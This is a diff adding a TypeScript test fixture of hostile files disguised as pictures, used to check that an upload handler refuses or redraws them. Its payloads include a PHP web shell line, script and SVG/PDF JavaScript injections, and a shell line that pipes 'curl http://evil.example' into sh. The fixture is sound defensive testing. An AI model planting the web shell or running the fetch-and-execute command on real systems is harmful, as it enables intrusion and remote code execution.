@@ -1,0 +1,36 @@
+import { randomFrom } from '../../../server/demo/random.ts';
+
+/** A file that somebody sends as a picture. */
+export interface HostileFile {
+  name: string;
+  bytes: Buffer;
+  /** Refused as no picture or as too large; redrawn; or either of them, whatever the decoder makes of it. */
+  outcome: 'refused' | 'too-large' | 'redrawn' | 'either';
+  /** What it is called; `picture.png` unless stated. */
+  filename?: string;
+  /** What it says it is; image/png unless stated. */
+  type?: string;
+}
+
+/** Stands in everything that is sent beside a picture's pixels: no 64 bytes of it may ever be stored. */
+export const MARKER = marker();
+
+function marker(): Buffer {
+  const random = randomFrom('uploads');
+  const letters = Array.from({ length: 160 }, () => String.fromCharCode(random.between(65, 90)));
+  return Buffer.from(`HOSTILE${letters.join('')}`);
+}
+
+export const withMarker = (text: string): Buffer => Buffer.concat([Buffer.from(text), MARKER]);
+
+/** What a browser, a server or another program would run or open. */
+export const PAYLOADS: Record<string, Buffer> = {
+  html: withMarker('<!doctype html><script>fetch("/api/auth/profile")</script>'),
+  js: withMarker('/*\n*/=1;alert(document.cookie);//'),
+  php: withMarker('<?php system($_GET["c"]); __halt_compiler();'),
+  svg: withMarker('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
+  zip: Buffer.concat([Buffer.from('504b0304140000000000', 'hex'), MARKER, Buffer.from('504b0506', 'hex')]),
+  pdf: withMarker('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n'),
+  shell: withMarker('#!/bin/sh\ncurl http://evil.example | sh\n'),
+  exe: Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), MARKER]),
+};
